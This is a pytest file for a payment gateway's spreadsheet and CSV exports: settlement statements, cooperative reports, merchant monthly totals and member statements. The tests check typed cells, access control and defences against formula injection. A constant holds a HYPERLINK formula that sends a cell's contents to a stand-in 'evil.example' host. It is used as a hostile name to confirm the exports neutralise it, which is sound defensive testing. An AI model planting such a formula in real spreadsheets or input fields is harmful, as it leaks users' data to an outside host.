"""Reports out to Excel, through the API, read back with openpyxl: the settlement statement, the
cooperative report, the merchant's month, the member's statement (mutasi). Amounts are numbers
with the rupiah format, times are Jakarta dates, the header is frozen, and a name a user typed is
text, never a formula. CSV carries the same rows."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import UTC, datetime

import openpyxl
from problems import assert_problem

from gateway import registry
from gateway.api.export import XLSX
from gateway.db import db, transaction
from gateway.tables import jakarta

EVIL = '=HYPERLINK("http://evil.example/steal?x="&A1,"klik")'


def pay_static(city, member, merchant, amount):
    response = city.pay_sticker(member, merchant, amount)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def xlsx_book(response, name: str | None = None) -> openpyxl.Workbook:
    """The workbook in a response, after checking it is one."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == XLSX
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith('.xlsx"')
    if name is not None:
        assert f'filename="{name}.xlsx"' in disposition
    return openpyxl.load_workbook(io.BytesIO(response.data))


def sheet_rows(sheet) -> list[dict]:
    """The sheet's rows as mappings from header to cell (so a test reads types and formats)."""
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def assert_typed_sheet(sheet, money_headers) -> None:
    """A header row that stays, amounts as numbers in rupiah, and not a single formula."""
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1] if cell.value is not None)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    for row in sheet_rows(sheet):
        for header in money_headers:
            cell = row[header]
            if cell.value is not None:
                assert cell.data_type == "n" and isinstance(cell.value, int), cell.coordinate
                assert "Rp" in cell.number_format and "#,##0" in cell.number_format


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def rename_cooperative(city, public_id: str, name: str) -> None:
    with city.app.app_context():

        def work(session):
            registry.get_cooperative(session, public_id).name = name

        transaction(db.session, work)


def rename_merchant(city, public_id: str, name: str) -> None:
    with city.app.app_context():

        def work(session):
            registry.get_merchant(session, public_id).name = name

        transaction(db.session, work)


# --- The settlement statement --------------------------------------------------------------------


def test_the_window_statement_comes_as_xlsx_per_cooperative_and_pair_with_typed_cells(city):
    ksm = city.make_cooperative("KSM")
    kpp = city.make_cooperative("KPP", kind="market_traders")
    rename_cooperative(city, kpp, EVIL)
    ksm_admin, kpp_admin = city.make_admin(ksm), city.make_admin(kpp)
    network = city.make_staff("network_admin")
    siti = city.make_member(ksm)
    assert city.cash_in(ksm_admin, siti, 500_000).status_code == 201
    shop = city.make_merchant(kpp, kind="shop", category="small")
    pay_static(city, siti, shop, 27_500)  # fee 193: 68 / 96 / 29
    closed = city.post(network, "/api/v1/settlement/windows/current/close", None, key=None)
    assert closed.status_code == 201, closed.get_json()
    window = closed.get_json()
    path = f"/api/v1/settlement/windows/{window['id']}"

    book = xlsx_book(city.client.get(f"{path}.xlsx", headers=city.headers(network)), window["id"])
    assert book.sheetnames == ["Posisi - Positions", "Pasangan - Pairs", "Jendela - Window"]
    positions = book["Posisi - Positions"]
    assert_typed_sheet(positions, ("position", "pays", "receives"))
    by_cooperative = {row["cooperative"].value: row for row in sheet_rows(positions)}
    assert by_cooperative[ksm]["position"].value == -27_500 + 68
    assert by_cooperative[ksm]["pays"].value == 27_500 - 68
    assert by_cooperative[kpp]["position"].value == 27_500 - 68 - 29
    assert by_cooperative[kpp]["receives"].value == 27_500 - 68 - 29
    # The cooperative's name is what an admin typed: text, shown as typed, never run.
    evil = by_cooperative[kpp]["name"]
    assert evil.value == EVIL and evil.data_type == "s"

    pairs = book["Pasangan - Pairs"]
    assert_typed_sheet(pairs, ("gross", "fee_issuer", "fee_acquirer", "fee_network", "refunds"))
    (pair,) = sheet_rows(pairs)
    assert (pair["issuer"].value, pair["acquirer"].value) == (ksm, kpp)
    assert [pair[k].value for k in ("count", "gross", "fee_issuer", "fee_acquirer")] == [
        1,
        27_500,
        68,
        96,
    ]
    assert pair["count"].data_type == "n" and pair["count"].number_format == "#,##0"

    (summary,) = sheet_rows(book["Jendela - Window"])
    closed_at = summary["closed_at (WIB)"]
    assert closed_at.is_date
    # Jakarta wall-clock time (Excel keeps milliseconds).
    expected = jakarta(datetime.fromisoformat(window["closed_at"]))
    assert abs((closed_at.value - expected).total_seconds()) < 0.001
    assert summary["network_position"].value == 29

    # ?format=xlsx and the Accept header answer the same workbook; CSV carries the same lines.
    for response in (
        city.client.get(f"{path}?format=xlsx", headers=city.headers(network)),
        city.client.get(path, headers={**city.headers(network), "Accept": XLSX}),
    ):
        again = xlsx_book(response)
        assert [[c.value for c in r] for r in again["Posisi - Positions"].iter_rows()] == [
            [c.value for c in r] for r in positions.iter_rows()
        ]
    lines = csv_rows(city.client.get(f"{path}.csv", headers=city.headers(network)))
    assert lines[0] == ["Posisi - Positions"]
    (kpp_line,) = [line for line in lines if line[:3] == ["position", window["id"], kpp]]
    assert kpp_line[3:7] == ["KPP", str(27_500 - 68 - 29), "0", str(27_500 - 68 - 29)]
    assert kpp_line[-1] == "'" + EVIL  # CSV: the name is quoted out of formula reach

    # A cooperative admin's workbook holds its own lines only, and not the network's figure.
    own = xlsx_book(city.client.get(f"{path}.xlsx", headers=city.headers(ksm_admin)))
    assert [row["cooperative"].value for row in sheet_rows(own["Posisi - Positions"])] == [ksm]
    assert sheet_rows(own["Jendela - Window"])[0]["network_position"].value is None
    assert len(sheet_rows(own["Pasangan - Pairs"])) == 1
    assert_problem(
        city.client.get(f"{path}?format=pdf", headers=city.headers(network)),
        422,
        "validation-failed",
    )
    # A stranger without a cooperative gets no file.
    member_answer = city.client.get(f"{path}.xlsx", headers=city.headers(siti))
    assert member_answer.status_code == 403 and member_answer.mimetype != XLSX
    del kpp_admin


# --- The cooperative report ---------------------------------------------------------------------


def test_the_cooperative_report_comes_as_xlsx_with_the_csv_rows_as_numbers(city):
    ksm = city.make_cooperative("KSM")
    kpp = city.make_cooperative("KPP", kind="market_traders")
    ksm_admin, kpp_admin = city.make_admin(ksm), city.make_admin(kpp)
    ani = city.make_member(ksm)
    assert city.cash_in(ksm_admin, ani, 300_000).status_code == 201
    assert city.cash_out(ksm_admin, ani, 20_000).status_code == 201
    shop = city.make_merchant(kpp, kind="shop", category="small")
    pay_static(city, ani, shop, 27_500)
    today = datetime.now(UTC).astimezone(jakarta_zone()).date().isoformat()
    period = f"from={today}&to={today}"
    path = f"/api/v1/cooperatives/{ksm}/report"

    csv_answer = csv_rows(city.get(ksm_admin, f"{path}.csv?{period}"))
    assert csv_answer == csv_rows(city.get(ksm_admin, f"{path}?{period}&format=csv"))
    for response in (
        city.get(ksm_admin, f"{path}.xlsx?{period}"),
        city.get(ksm_admin, f"{path}?{period}&format=xlsx"),
        city.client.get(f"{path}?{period}", headers={**city.headers(ksm_admin), "Accept": XLSX}),
    ):
        book = xlsx_book(response, "report-KSM")
        (sheet,) = book.worksheets
        assert_typed_sheet(sheet, ("amount",))
        cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
        # The same rows as CSV, numbers as numbers and empty cells empty.
        assert cells == [
            [(int(v) if v.lstrip("-").isdigit() else (v or None)) for v in line]
            for line in csv_answer
        ]
        rows = {(r["figure"].value, r["detail"].value): r for r in sheet_rows(sheet)}
        assert rows[("payments_made_by_members", "cross_cooperative")]["amount"].value == 27_500
        assert rows[("cash_in", "own_members")]["amount"].value == 300_000
        assert rows[("cash_out", "own_members")]["count"].value == 1
        assert rows[("fee_income", kpp)]["amount"].value == 68
    # Another cooperative's admin gets no file.
    refused = city.get(kpp_admin, f"{path}.xlsx?{period}")
    assert refused.status_code == 403 and refused.mimetype != XLSX


def jakarta_zone():
    from gateway.limits import JAKARTA

    return JAKARTA


# --- The merchant's month ------------------------------------------------------------------------


def test_the_merchants_month_is_its_days_as_the_merchant_day_computes_them_and_their_totals(city):
    from freezegun import freeze_time

    ksm = city.make_cooperative("KSM")
    admin = city.make_admin(ksm)
    siti = city.make_member(ksm, tier="verified")
    shop = city.make_merchant(ksm, kind="shop", category="small")  # 0,70%
    rename_merchant(city, shop.id, EVIL)
    moments = {
        # 31 October, 23:30 in Jakarta: October's, not November's.
        "october": datetime(2026, 10, 31, 16, 30, tzinfo=UTC),
        # 1 November, 00:30 in Jakarta (still 31 October in UTC).
        "first": datetime(2026, 10, 31, 17, 30, tzinfo=UTC),
        "second": datetime(2026, 11, 2, 3, 0, tzinfo=UTC),
        "last": datetime(2026, 11, 30, 16, 59, tzinfo=UTC),  # 23:59 on 30 November
    }
    with freeze_time(moments["october"], tick=False) as clock:
        assert city.cash_in(admin, siti, 1_000_000).status_code == 201
        pay_static(city, siti, shop, 50_000)
        clock.move_to(moments["first"])
        city._tokens.clear()
        big = pay_static(city, siti, shop, 100_000)  # fee 700
        pay_static(city, siti, shop, 27_500)  # fee 193
        clock.move_to(moments["second"])
        city._tokens.clear()
        refunded = city.post(shop, f"/api/v1/payments/{big['id']}/refunds", {"amount": 40_000})
        assert refunded.status_code == 201, refunded.get_json()  # fee shares back: 280
        assert city.payout(admin, shop, 60_000).status_code == 201
        clock.move_to(moments["last"])
        city._tokens.clear()
        pay_static(city, siti, shop, 10_000)  # fee 70

        path = f"/api/v1/merchants/{shop.id}/month?month=2026-11"
        response = city.get(shop, path)
        assert response.status_code == 200, response.get_json()
        month = response.get_json()
        days = {day["date"]: day for day in month["days"]}
        assert len(days) == 30 and min(days) == "2026-11-01" and max(days) == "2026-11-30"
        # Every day is what the merchant's day says for it (the same computation, reused).
        for day in ("2026-11-01", "2026-11-02", "2026-11-15", "2026-11-30"):
            answer = city.get(shop, f"/api/v1/merchants/{shop.id}/settlement?date={day}")
            expected = answer.get_json()
            assert days[day] == {
                key: expected[key]
                for key in ("date", "count", "gross", "refund_count", "refunds", "fees", "net")
                + ("paid_out",)
            }
        assert days["2026-11-01"]["gross"] == 127_500 and days["2026-11-01"]["fees"] == 893
        assert days["2026-11-02"] == {
            "date": "2026-11-02",
            "count": 0,
            "gross": 0,
            "refund_count": 1,
            "refunds": 40_000,
            "fees": -280,
            "net": -39_720,
            "paid_out": 60_000,
        }
        assert month["totals"] == {
            "count": 3,
            "gross": 137_500,
            "refund_count": 1,
            "refunds": 40_000,
            "fees": 700 + 193 - 280 + 70,
            "net": 137_500 - 40_000 - 683,
            "paid_out": 60_000,
        }
        # October's sale (49.650 net) is in the balance, not in November.
        assert month["balance"] == city.balance_of_merchant(shop)
        assert month["balance"] == 49_650 + month["totals"]["net"] - month["totals"]["paid_out"]

        book = xlsx_book(city.get(shop, f"/api/v1/merchants/{shop.id}/month.xlsx?month=2026-11"))
        daily = book["Harian - Daily"]
        money = ("Penjualan / Gross", "Refund / Refunds", "Biaya layanan / Fees", "Bersih / Net")
        assert_typed_sheet(daily, money + ("Dicairkan / Paid out",))
        rows = sheet_rows(daily)
        assert len(rows) == 31  # thirty days and the total line
        first, second, total = rows[0], rows[1], rows[-1]
        assert first["Tanggal / Date"].is_date
        assert first["Tanggal / Date"].value == datetime(2026, 11, 1)
        assert first["Penjualan / Gross"].value == 127_500
        assert second["Biaya layanan / Fees"].value == -280
        assert total["Keterangan / Note"].value == "Jumlah / Total"
        assert total["Tanggal / Date"].value is None
        assert total["Bersih / Net"].value == month["totals"]["net"]
        (summary,) = sheet_rows(book["Jumlah - Total"])
        assert summary["Merchant"].value == EVIL and summary["Merchant"].data_type == "s"
        assert summary["Saldo sekarang / Balance now"].value == month["balance"]
        assert_typed_sheet(book["Jumlah - Total"], ("Saldo sekarang / Balance now",))
        # CSV: the same days; the name cannot run as a formula there either.
        lines = csv_rows(city.get(shop, f"{path}&format=csv"))
        assert lines[0] == ["Harian - Daily"]
        assert ["2026-11-01", "", "2", "127500", "0", "0", "893", "126607", "0"] in lines
        assert any(line and line[0] == "'" + EVIL for line in lines)

        # Only the merchant reads it; a bad month is a problem, not a file.
        for stranger in (admin, siti):
            assert_problem(city.get(stranger, path), 404, "not-found")
        for bad in ("2026-13", "2026-1", "26-11", "1999-12", "2026-11-01", "x"):
            assert_problem(
                city.get(shop, f"/api/v1/merchants/{shop.id}/month.xlsx?month={bad}"),
                422,
                "validation-failed",
            )


# --- The member's statement (mutasi) -------------------------------------------------------------


def rename_member(city, public_id: str, name: str) -> None:
    with city.app.app_context():

        def work(session):
            registry.get_member(session, public_id).user.name = name

        transaction(db.session, work)


def test_the_mutasi_runs_from_the_opening_balance_to_a_closing_balance_the_ledger_holds(city):
    from freezegun import freeze_time

    from gateway import ledger

    ksm = city.make_cooperative("KSM")
    kpp = city.make_cooperative("KPP", kind="market_traders")
    ksm_teller, kpp_teller = city.make_admin(ksm), city.make_admin(kpp)
    siti = city.make_member(ksm)
    rename_member(city, siti.id, "@Siti" + EVIL)
    shop = city.make_merchant(kpp, kind="shop", category="small")
    rename_merchant(city, shop.id, EVIL)
    # 16:59 UTC on 19 May is 23:59 in Jakarta: before the period.
    with freeze_time(datetime(2026, 5, 19, 16, 59, tzinfo=UTC)):
        city._tokens.clear()
        assert city.cash_in(kpp_teller, siti, 100_000).status_code == 201
    with freeze_time(datetime(2026, 5, 19, 17, 1, tzinfo=UTC)):  # 00:01 on 20 May in Jakarta
        city._tokens.clear()
        paid = pay_static(city, siti, shop, 27_500)
        refunded = city.post(shop, f"/api/v1/payments/{paid['id']}/refunds", {"amount": 7_500})
        assert refunded.status_code == 201, refunded.get_json()
    with freeze_time(datetime(2026, 5, 21, 9, 0, tzinfo=UTC)):
        city._tokens.clear()
        assert city.cash_out(ksm_teller, siti, 20_000).status_code == 201
    with freeze_time(datetime(2026, 5, 22, 9, 0, tzinfo=UTC)):  # after the period
        city._tokens.clear()
        assert city.cash_in(ksm_teller, siti, 5_000).status_code == 201
    city._tokens.clear()
    path = f"/api/v1/members/{siti.id}/statement"
    period = "from=2026-05-20&to=2026-05-21"

    body = city.get(siti, f"{path}?{period}").get_json()
    assert (body["opening_balance"], body["closing_balance"]) == (100_000, 60_000)
    assert [e["amount"] for e in body["items"]] == [-20_000, 7_500, -27_500]
    assert body["opening_balance"] + sum(e["amount"] for e in body["items"]) == 60_000
    everything = city.get(siti, path).get_json()
    with city.app.app_context():
        wallet = registry.get_member(db.session, siti.id).wallet_account_id
        stored = ledger.balance(db.session, wallet)
        assert stored == ledger.derived_balance(db.session, wallet) == 65_000
    assert (everything["opening_balance"], everything["closing_balance"]) == (0, stored)

    book = xlsx_book(
        city.get(siti, f"{path}.xlsx?{period}"), f"mutasi-{siti.id}-2026-05-20-2026-05-21"
    )
    sheet = book["Mutasi"]
    assert_typed_sheet(sheet, ("Masuk / In", "Keluar / Out", "Saldo / Balance"))
    rows = sheet_rows(sheet)
    assert [r["Jenis / Kind"].value for r in rows] == [
        "Saldo awal / Opening balance",
        "Pembayaran / Payment",
        "Refund",
        "Tarik tunai / Cash out",
        "Saldo akhir / Closing balance",
    ]
    assert [r["Saldo / Balance"].value for r in rows] == [100_000, 72_500, 80_000, 60_000, 60_000]
    assert [r["Keluar / Out"].value for r in rows] == [None, 27_500, None, 20_000, 47_500]
    assert [r["Masuk / In"].value for r in rows] == [None, None, 7_500, None, 7_500]
    # Each movement's balance is the one before it plus what came in, less what went out.
    for before, row in itertools.pairwise(rows[:-1]):
        change = (row["Masuk / In"].value or 0) - (row["Keluar / Out"].value or 0)
        assert before["Saldo / Balance"].value + change == row["Saldo / Balance"].value
    payment_row = rows[1]
    assert payment_row["Waktu (WIB) / Time"].is_date
    assert payment_row["Waktu (WIB) / Time"].value == datetime(2026, 5, 20, 0, 1)
    note = payment_row["Keterangan / Description"]
    assert note.value == f"{EVIL} (Koperasi KPP)" and note.data_type == "s"
    assert payment_row["ID pembayaran / Payment id"].value == paid["id"]
    assert rows[3]["Keterangan / Description"].value == "Loket / Counter Koperasi KSM"

    (summary,) = sheet_rows(book["Ringkasan - Summary"])
    assert summary["Nama / Name"].value == "@Siti" + EVIL
    assert summary["Nama / Name"].data_type == "s"
    assert summary["Dari tanggal / From"].value == datetime(2026, 5, 20)
    assert summary["Sampai tanggal / To"].value == datetime(2026, 5, 21)
    assert [
        summary[key].value
        for key in (
            "Saldo awal / Opening",
            "Masuk / In",
            "Keluar / Out",
            "Saldo akhir / Closing",
            "Saldo sekarang / Balance now",
        )
    ] == [100_000, 7_500, 47_500, 60_000, 65_000]
    assert_typed_sheet(book["Ringkasan - Summary"], ("Saldo akhir / Closing",))

    # With no end, the file closes on the ledger's balance; its admin reads it too, as CSV.
    whole = sheet_rows(xlsx_book(city.get(ksm_teller, f"{path}?format=xlsx"))["Mutasi"])
    assert whole[0]["Saldo / Balance"].value == 0
    assert whole[-1]["Saldo / Balance"].value == stored == whole[-2]["Saldo / Balance"].value
    lines = csv_rows(city.get(siti, f"{path}.csv?{period}"))
    assert lines[:2] == [["Mutasi"], [cell.value for cell in sheet[1]]]
    assert lines[2][1] == "Saldo awal / Opening balance" and lines[2][5] == "100000"
    assert lines[3][0] == "2026-05-20 00:01:00" and lines[3][2] == "'" + EVIL + " (Koperasi KPP)"

    # The counter that took her cash, another member, her shop: 404, as for an unknown id.
    for stranger in (kpp_teller, city.make_member(ksm), shop):
        assert_problem(city.get(stranger, f"{path}.xlsx"), 404, "not-found")
    assert_problem(
        city.get(siti, f"{path}.xlsx?from=2026-05-22&to=2026-05-20"), 422, "validation-failed"
    )


def test_a_mutasi_file_of_more_movements_than_a_file_holds_is_refused_not_cut(city, monkeypatch):
    from gateway import reports

    ksm = city.make_cooperative("KSM")
    teller = city.make_admin(ksm)
    siti = city.make_member(ksm)
    for amount in (1_000, 2_000, 3_000):
        assert city.cash_in(teller, siti, amount).status_code == 201
    monkeypatch.setattr(reports, "STATEMENT_ROWS_MAX", 3)
    whole = sheet_rows(
        xlsx_book(city.get(siti, f"/api/v1/members/{siti.id}/statement.xlsx"))["Mutasi"]
    )
    assert [row["Saldo / Balance"].value for row in whole] == [0, 1_000, 3_000, 6_000, 6_000]
    monkeypatch.setattr(reports, "STATEMENT_ROWS_MAX", 2)
    refused = city.get(siti, f"/api/v1/members/{siti.id}/statement.xlsx")
    assert_problem(refused, 422, "validation-failed")
    assert "periode yang lebih pendek" in refused.get_data(as_text=True)


def test_the_cli_writes_the_window_statement_as_xlsx_and_prints_it_as_csv(city, runner, tmp_path):
    ksm = city.make_cooperative("KSM")
    admin = city.make_admin(ksm)
    network = city.make_staff("network_admin")
    siti = city.make_member(ksm)
    assert city.cash_in(admin, siti, 50_000).status_code == 201
    pay_static(city, siti, city.make_merchant(ksm, category="small"), 10_000)  # on-us, fee 70
    window = city.post(network, "/api/v1/settlement/windows/current/close", None, key=None)
    window_id = window.get_json()["id"]
    path = tmp_path / "statement.xlsx"
    written = runner.invoke(args=["settle", "report", window_id, "--xlsx", str(path)])
    assert written.exit_code == 0, written.output
    book = openpyxl.load_workbook(path)
    (line,) = sheet_rows(book["Posisi - Positions"])
    assert (line["code"].value, line["position"].value) == ("KSM", -10)  # the network's share
    assert_typed_sheet(book["Posisi - Positions"], ("position", "pays", "receives"))
    printed = runner.invoke(args=["settle", "report", window_id, "--csv"])
    assert printed.exit_code == 0 and f"position,{window_id}," in printed.output
